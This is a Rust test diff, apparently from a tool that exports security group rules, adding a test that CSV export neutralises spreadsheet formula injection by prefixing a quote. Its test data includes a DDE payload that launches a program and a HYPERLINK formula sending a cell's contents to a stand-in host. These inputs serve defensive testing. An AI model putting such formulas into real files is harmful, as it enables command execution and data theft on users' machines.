@@ -154,3 +154,32 @@ fn the_table_aligns_columns_and_makes_untrusted_text_inert() {
     }
     assert!(lines.iter().all(|l| !l.ends_with(' ')), "{text}");
 }
+
+#[test]
+fn csv_writes_a_name_or_description_a_spreadsheet_would_run_as_text() {
+    assert_eq!(
+        super::FREE_TEXT.map(|c| COLUMNS[c]),
+        ["group_name", "description"]
+    );
+    let mut rows = rows();
+    rows[0].group_name = "=cmd|' /C calc'!A0".into();
+    rows[0].description = Some("=HYPERLINK(\"http://x.example/?\"&A1)".into());
+    rows[1].group_name = "@SUM(1+1)".into();
+    rows[1].description = Some("-2+3".into());
+    let text = written(ExportFormat::Csv, rows);
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(&records[0][2], "'=cmd|' /C calc'!A0");
+    assert_eq!(&records[0][12], "'=HYPERLINK(\"http://x.example/?\"&A1)");
+    assert_eq!(&records[1][2], "'@SUM(1+1)");
+    assert_eq!(&records[1][12], "'-2+3");
+    // Numbers and sgtui's own marks are left as they are: a port of -1, the `=` of redundant.
+    assert_eq!(&records[0][7], "22");
+    assert_eq!(&records[0][11], "!=");
+    for text in ["+1", "\tx", "\rx"] {
+        assert_eq!(super::as_text(text), Some(format!("'{text}")));
+    }
+    for text in ["web", "a=b", "", "ok-1"] {
+        assert_eq!(super::as_text(text), None);
+    }
+}
